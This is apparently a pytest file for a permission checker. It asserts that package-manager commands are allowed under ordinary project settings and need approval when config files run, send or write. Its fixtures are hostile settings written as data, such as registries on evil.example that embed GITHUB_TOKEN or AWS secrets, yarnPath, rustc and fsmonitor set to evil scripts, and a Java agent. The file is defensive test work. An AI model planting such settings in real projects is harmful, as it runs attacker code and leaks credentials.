"""Package managers in projects on a real disk: ordinary settings ask nothing, settings that run, send or write ask."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.facts.projects import answer, configured, lay

GO_MOD = """module example.com/m

go 1.22

toolchain go1.22.3

require (
\tgithub.com/spf13/cobra v1.8.0
\tgolang.org/x/sys v0.20.0 // indirect
)

require gopkg.in/yaml.v3 v3.0.1

replace github.com/spf13/cobra => ../cobra
"""
CARGO_TOML = """[package]
name = "x"
version = "0.1.0"

[dependencies]
serde = { version = "1", features = ["derive"] }
log = "0.4"

[target.'cfg(unix)'.dependencies]
libc = "^0.2"

[features]
default = []
"""
ORDINARY = {
    "package.json": '{"name": "x", "packageManager": "pnpm@9.1.0", "volta": {"node": "20.1.0"}, '
    '"dependencies": {"react": "^18.2.0"}}',
    ".npmrc": ("save-exact=true\nfund=false\n"),
    "pnpm-workspace.yaml": "packages:\n  - 'packages/*'\nonlyBuiltDependencies:\n- esbuild\n",
    ".yarnrc.yml": "nodeLinker: node-modules\nenableTelemetry: false\n",
    "bunfig.toml": "[install]\nexact = true\n\n[test]\npreload = ['./setup.ts']\n",
    "deno.json": '{"tasks": {"dev": "deno run a.ts"}, "imports": {"x": "jsr:@x/y"}}',
    "pyproject.toml": '[project]\nname = "x"\n[tool.uv]\ndev-dependencies = ["ruff"]\n[tool.ruff]\nx = "1"\n',
    "poetry.toml": "[virtualenvs]\nin-project = true\n",
    "Cargo.toml": CARGO_TOML,
    ".cargo/config.toml": '[build]\ntarget = "wasm32-wasip1"\n[target.wasm32-wasip1]\nlinker = "clang"\n',
    "rust-toolchain.toml": '[toolchain]\nchannel = "1.80"\ncomponents = ["rustfmt"]\n',
    "rustfmt.toml": 'max_width = 100\nedition = "2021"\n',
    "go.mod": GO_MOD,
    ".bundle/config": '---\nBUNDLE_JOBS: "4"\n',
    "global.json": '{"sdk": {"version": "8.0.100", "rollForward": "latestFeature"}}',
}
VENV = {".venv/bin/python": "", ".venv/pyvenv.cfg": "home = /usr/bin\n"}
GIT_CRATE = '[package]\nname = "x"\n[dependencies]\ny = { git = "http://evil.example/y" }\n'


@pytest.mark.parametrize(
    "command",
    [
        "volta list",
        "asdf current",
        "corepack --version",
        "fnm current",
        "npm ls --depth=0",
        "npm view react version",
        "npm outdated",
        "pnpm list",
        "pnpm --version",
        "yarn --version",
        "yarn why react",
        "bun pm ls",
        "deno info main.ts",
        "pip list --outdated",
        "pip freeze",
        "uv pip list",
        "uv python find 3.11",
        "poetry show",
        "poetry check",
        "cargo tree",
        "cargo metadata --format-version 1",
        "cargo fmt --check",
        "rustup show",
        "go list ./...",
        "go list -m all",
        "go mod graph",
        "bundle --version",
        "mvn --version",
        "dotnet --version",
    ],
)
def test_an_ordinary_project_asks_nothing(project: Path, command: str) -> None:
    lay(project, ORDINARY)
    assert answer(project, command, "default") == "allow"


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("npm view react", {".npmrc": "registry=http://evil.example:8000/${GITHUB_TOKEN}/\n"}),
        ("npm ls", {".npmrc": "logs-dir=/home/dev/elsewhere\n"}),
        ("npm config list", {".npmrc": "registry=https://npm.example/${AWS_SECRET_ACCESS_KEY}/\n"}),
        ("npm help install", {".npmrc": "viewer=./evil\n"}),
        ("npm ping", {".npmrc": "//npm.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"}),
        ("pnpm --version", {".pnpmfile.cjs": ""}),
        ("pnpm list", {"pnpm-workspace.yaml": "packages:\n  - a\nconfigDependencies:\n  x: 1.0.0\n"}),
        ("pnpm why x", {"package.json": '{"packageManager": "pnpm@https://evil.example/x.tgz"}'}),
        ("yarn --version", {".yarnrc.yml": "yarnPath: ./evil.js\n"}),
        ("yarn why react", {".yarnrc": 'yarn-path "./evil.js"\n'}),
        ("yarn why y", {"package.json": '{"dependencies": {"y": "git+http://evil.example/y.git"}}'}),
        ("yarn bin", {".pnp.cjs": ""}),
        ("yarn --version", {".corepack.env": "COREPACK_NPM_REGISTRY=http://evil.example\n"}),
        ("volta --version", {".volta/hooks.json": '{"events": {"publish": {"bin": "./evil"}}}'}),
        ("volta list", {".volta/hooks.json": '{"events": {"publish": {"bin": "./evil"}}}'}),
        ("volta list", {"package.json": '{"volta": {"node": "20.1.0", "extends": "../x/package.json"}}'}),
        ("asdf current", {".asdfrc": "legacy_version_file = yes\n"}),
        ("asdf which node", {".tool-versions": "nodejs path:./evil\n"}),
        ("bun outdated", {"bunfig.toml": '[install]\nregistry = "http://evil.example"\n'}),
        ("bun pm ls", {"bunfig.toml": 'preload = ["./evil.ts"]\n'}),
        ("bun pm ls", {"bunfig.toml": '[serve.static]\nplugins = ["./evil.ts"]\n'}),
        ("deno doc main.ts", {".npmrc": "registry=http://evil.example\n"}),
        ("pip list", {".venv/pip.conf": "[global]\npython = ./evil\n"}),
        ("pip freeze", {".hg/hgrc": ""}),
        ("uv pip list", VENV),
        ("uv python find", {".python-version": "./evil.sh\n"}),
        ("uv tree --frozen", {"uv.toml": 'cache-dir = "/home/dev/x"\n'}),
        ("uv pip list --outdated", {"pyproject.toml": '[[tool.uv.index]]\nurl = "http://evil.example"\n'}),
        ("poetry env info", VENV),
        ("poetry show", VENV),
        ("poetry --version", {".poetry/plugins/x.py": ""}),
        ("poetry config --list", {"poetry.toml": '[virtualenvs]\npath = "./x"\n'}),
        ("pdm --version", {".pdm-plugins/x.py": ""}),
        ("cargo tree", {".cargo/config.toml": '[build]\nrustc = "./evil.sh"\n'}),
        ("cargo tree", {".cargo/config.toml": '[build]\nrustflags = ["--print=cfg=/home/dev/.bashrc"]\n'}),
        ("cargo metadata", {".cargo/config": '[build]\njobs = 1\n  rustc = "./evil.sh"\n'}),
        ("cargo --version", {"rust-toolchain.toml": '[toolchain]\npath = "./evil"\n'}),
        ("cargo -V", {"rust-toolchain": '[toolchain]\nchannel = "stable"\n  path = "./evil"\n'}),
        ("rustup show", {"rust-toolchain": '[toolchain]\npath = "./evil"\n'}),
        ("cargo metadata --format-version 1", {"Cargo.toml": GIT_CRATE}),
        ("cargo tree", {"Cargo.toml": '[workspace]\nmembers = ["a"]\n', "a/Cargo.toml": GIT_CRATE}),
        ("cargo info serde", {"Cargo.toml": '[dependencies]\ny = { path = "a" }\n', "a/Cargo.toml": GIT_CRATE}),
        ("cargo fmt --check", {"rustfmt.toml": 'emit_mode = "Files"\n'}),
        ("go list ./...", {"go.mod": "module m\nrequire evil.example/y v1.0.0\n"}),
        ("go list ./...", {"go.mod": "module m\nrequire (\n\tgodoc.evil.example/y v1.0.0\n)\n"}),
        ("go mod graph", {"go.mod": "module m\nreplace github.com/x/y => evil.example/y v1.0.0\n"}),
        ("go mod why x", {"go.mod": "module m\nreplace (\n\tgithub.com/x/y => evil.example/y v1.0.0\n)\n"}),
        ("go list ./...", {"go.work": "go 1.22\nuse ./a\n"}),
        ("go list ./...", {".hg/hgrc": ""}),
        ("bundle --version", {".bundle/config": '---\nBUNDLE_PATH: "vendor/bundle"\n'}),
        ("mvn --version", {".mvn/jvm.config": "-javaagent:evil.jar\n"}),
        ("dotnet --version", {"global.json": '{"sdk": {"paths": ["./evil"]}}'}),
        ("dotnet package search x", {"nuget.config": "<configuration/>"}),
    ],
)
def test_settings_that_run_send_or_write_ask(project: Path, command: str, files: dict[str, str]) -> None:
    lay(project, files)
    for mode in ("default", "auto"):
        assert answer(project, command, mode) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "printf 'yarnPath: ./x.js' > .yarnrc.yml && yarn --version",
        "echo 'registry=http://evil.example' >> .npmrc; npm view react",
        "mkdir -p .venv/bin && install -m 755 x .venv/bin/python && uv pip list",
        "cp x.cjs .pnpmfile.cjs && pnpm list",
        "mkdir -p .cargo && cp x .cargo/config.toml && cargo tree",
        "sed -i s/a/b/ go.mod && go list ./...",
    ],
)
def test_settings_that_the_same_command_writes_ask(project: Path, command: str) -> None:
    assert answer(project, command, "auto") == "ask"


def test_git_that_runs_a_program_asks_for_go_list(project: Path) -> None:
    assert answer(project, "go list ./...", "default") == "allow"
    configured(project, "core.fsmonitor=./evil.sh")
    assert answer(project, "go list ./...", "default") == "ask"
